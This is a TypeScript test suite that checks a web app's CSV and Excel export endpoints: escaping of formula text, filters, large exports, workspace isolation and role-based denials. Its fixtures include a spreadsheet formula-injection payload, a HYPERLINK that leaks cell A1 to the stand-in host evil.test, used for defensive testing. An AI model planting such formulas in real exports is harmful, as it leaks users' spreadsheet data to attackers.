import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  insertManyPartners,
  insertPartner,
  seedPartnerUser,
  seedWorld,
  signIn,
  type World,
} from '../../../test/factories';
import {
  createTestApp,
  databaseSnapshot,
  expectDenied,
  request,
  type TestApp,
} from '../../../test/harness';

let t: TestApp;
let world: World;
let partnerCookie: string;
let bCookie: string;
const hostile = '=HYPERLINK("https://evil.test/?leak="&A1,"Click")';
const lists = ['partners', 'contacts', 'interactions', 'issues', 'tasks', 'plans', 'timeline'];

type Auth = { key?: string; cookie?: string };
const get = (url: string, auth: Auth) => request(t.app, { method: 'GET', url, ...auth });
const rowsOf = (res: LightMyRequestResponse) =>
  parse(res.rawPayload, { bom: true, columns: true }) as Array<Record<string, string>>;

async function sheetOf(res: LightMyRequestResponse) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(res.rawPayload as unknown as ExcelJS.Buffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no sheet');
  return sheet;
}

beforeAll(async () => {
  t = await createTestApp();
  world = await seedWorld(t.database);
  const key = world.a.members.admin.key;
  await insertPartner(t.database, world.a.workspaceId, { name: hostile, stage: 'active' });
  await insertPartner(t.database, world.b.workspaceId, { name: 'B secret partner' });
  const contact = {
    partnerId: world.a.partners[0],
    firstName: '@SUM(1+1)',
    lastName: 'Müller',
    role: 'other',
  };
  const created = await request(t.app, {
    method: 'POST',
    url: '/api/v1/contacts',
    key,
    payload: contact,
  });
  expect(created.statusCode).toBe(201);
  const admin = await seedPartnerUser(t.database, world.a, world.a.partners[0], 'partner_admin');
  partnerCookie = await signIn(t.app, admin.email);
  bCookie = await signIn(t.app, world.b.members.admin.email);
});
afterAll(() => t.close());

describe('the partner export', () => {
  it('downloads the list as CSV with a BOM, a header row, and formula text escaped', async () => {
    const res = await get('/api/v1/partners/export?format=csv', { key: world.a.members.admin.key });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="tandem-partners-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = rowsOf(res);
    expect(rows.map((r) => r.Name)).toEqual([`'${hostile}`, 'A Partner One', 'A Partner Two']);
    expect(rows[1]).toMatchObject({ Type: 'technology', Stage: 'prospect', 'Health score': '' });
  });

  it('downloads the same rows as an Excel sheet, escaped there too', async () => {
    const res = await get('/api/v1/partners/export?format=xlsx', {
      key: world.a.members.admin.key,
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(res.headers['content-disposition']).toMatch(/filename="tandem-partners-.*\.xlsx"$/);
    const sheet = await sheetOf(res);
    expect(sheet.name).toBe('Partners');
    expect(sheet.getCell('B1').value).toBe('Name');
    expect([2, 3, 4].map((n) => sheet.getRow(n).getCell(2).value)).toEqual([
      `'${hostile}`,
      'A Partner One',
      'A Partner Two',
    ]);
  });

  it("applies the list's own filters and sort", async () => {
    const key = world.a.members.admin.key;
    const names = async (query: string) =>
      rowsOf(await get(`/api/v1/partners/export?${query}`, { key })).map((r) => r.Name);
    expect(await names('stage=active')).toEqual([`'${hostile}`]);
    expect(await names('q=partner%20two')).toEqual(['A Partner Two']);
    expect(await names('sort=-name')).toEqual(['A Partner Two', 'A Partner One', `'${hostile}`]);
  });

  it('refuses unknown parameters and paging parameters (400 naming the field), writing nothing', async () => {
    const key = world.a.members.admin.key;
    for (const [query, field] of [
      ['format=pdf', 'format'],
      ['stage=nonsense', 'stage'],
      ['limit=10', 'limit'],
      ['bogus=1', 'bogus'],
    ] as const) {
      const res = await expectDenied(t, 400, {
        method: 'GET',
        url: `/api/v1/partners/export?${query}`,
        key,
      });
      expect(JSON.stringify(res.json().errors), query).toContain(field);
    }
  });

  it('streams a large list in keyset batches without error', async () => {
    await insertManyPartners(t.database, world.a.workspaceId, 3000, { namePrefix: 'Bulk' });
    const key = world.a.members.viewer.key;
    const csv = await get('/api/v1/partners/export?q=bulk', { key });
    const rows = rowsOf(csv);
    expect(rows).toHaveLength(3000);
    expect(new Set(rows.map((r) => r.ID)).size).toBe(3000);
    const xlsx = await get('/api/v1/partners/export?q=bulk&format=xlsx&sort=-name', { key });
    expect((await sheetOf(xlsx)).rowCount).toBe(3001);
  });
});

describe('every list export', () => {
  it('answers a viewer with a file of the list, with its header row', async () => {
    const key = world.a.members.viewer.key;
    for (const list of lists) {
      const csv = await get(`/api/v1/${list}/export`, { key });
      expect(csv.statusCode, list).toBe(200);
      expect(csv.headers['content-disposition'], list).toContain(`tandem-${list}-`);
      expect(csv.body.split('\r\n')[0], list).toMatch(/^\uFEFF?ID,/);
      const xlsx = await get(`/api/v1/${list}/export?format=xlsx`, { key });
      expect(xlsx.statusCode, list).toBe(200);
      expect((await sheetOf(xlsx)).getCell('A1').value, list).toBe('ID');
    }
  });

  it('escapes a contact name that starts like a formula', async () => {
    const rows = rowsOf(await get('/api/v1/contacts/export', { key: world.a.members.viewer.key }));
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      'First name': "'@SUM(1+1)",
      'Last name': 'Müller',
      Partner: 'A Partner One',
    });
  });

  it("never shows another workspace's rows, with a key or a session", async () => {
    for (const auth of [{ key: world.b.members.admin.key }, { cookie: bCookie }]) {
      const before = await databaseSnapshot(t.database);
      for (const list of lists) {
        const res = await get(`/api/v1/${list}/export`, auth);
        expect(res.statusCode, list).toBe(200);
        expect(res.body, list).not.toContain('A Partner');
        expect(res.body, list).not.toContain('HYPERLINK');
        if (list === 'partners')
          expect(rowsOf(res).map((r) => r.Name)).toEqual([
            'B Partner One',
            'B Partner Two',
            'B secret partner',
          ]);
        if (list === 'contacts') expect(rowsOf(res)).toEqual([]);
      }
      const filtered = await get(`/api/v1/contacts/export?partnerId=${world.a.partners[0]}`, auth);
      expect(rowsOf(filtered)).toEqual([]);
      expect(await databaseSnapshot(t.database)).toBe(before);
    }
  });

  it('refuses a partner user (403 like the lists), even for their own partner, writing nothing', async () => {
    for (const list of lists) {
      await expectDenied(t, 403, {
        method: 'GET',
        url: `/api/v1/${list}/export`,
        cookie: partnerCookie,
      });
    }
    await expectDenied(t, 403, {
      method: 'GET',
      url: `/api/v1/contacts/export?partnerId=${world.a.partners[0]}&format=xlsx`,
      cookie: partnerCookie,
    });
  });

  it('refuses an anonymous caller (401)', async () => {
    await expectDenied(t, 401, { method: 'GET', url: '/api/v1/partners/export' });
  });
});
